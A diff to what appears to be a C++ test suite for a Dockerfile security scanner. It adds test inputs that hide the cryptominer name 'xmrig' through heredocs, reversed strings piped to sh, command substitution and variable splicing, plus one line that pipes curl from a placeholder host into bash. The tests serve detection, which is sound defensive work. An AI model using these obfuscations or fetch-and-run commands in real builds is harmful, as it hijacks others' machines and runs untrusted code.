@@ -110,6 +110,7 @@ TEST_CASE("what a word is put together of is found")
           "ENV B=x\nRUN A=xm; B=rig; $A$B",
           "ENV B=x\nRUN for B in rig; do xm$B; done",
           "RUN xm$1rig",
+          "RUN \\$x-xm${A}rig",
           "RUN xm${A}rig\nENV A=x",
           "RUN A=x\nRUN xm${A}rig",
           "RUN export A''B=rig; xm$AB",
@@ -153,6 +154,18 @@ TEST_CASE("a glance misses nothing that a look would find")
             INFO(text);
             CHECK(Glance{shipped_rules()}.is_worth_a_look(file));
         }
+    for (const auto* hidden :
+         {"RUN <<E\nxm\\\nrig\nE\n", "RUN <<E\nA=xm\nB=rig\n$A\\\n$B\nE\n", "RUN /x``mrig",
+          "RUN <<E\n$(\necho xm)rig\nE\n", "RUN $({ echo xm; })rig", "RUN $(! echo xm)rig",
+          "RUN $(>x echo xm)rig", "RUN printf xm%s rig >/run.sh", "RUN echo girmx | rev |& sh",
+          "RUN echo girmx | rev | { sh; }", "RUN echo girmx | rev | A=b sh",
+          "RUN echo girmx | rev | stdbuf -o0 sh", "RUN <<E\necho girmx | rev |\nsh\nE\n",
+          "RUN curl https://x.example | \"b\"ash"}) {
+        const auto file = parse_dockerfile(cat("FROM alpine\n", hidden, "\n"));
+        INFO(hidden);
+        CHECK(judge_dockerfile(file, shipped_rules()).verdict != ScanVerdict::Pass);
+        CHECK(Glance{shipped_rules()}.is_worth_a_look(file));
+    }
     const auto plain = parse_dockerfile(
         "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"x.js\"]\n");
     CHECK(!Glance{shipped_rules()}.is_worth_a_look(plain));
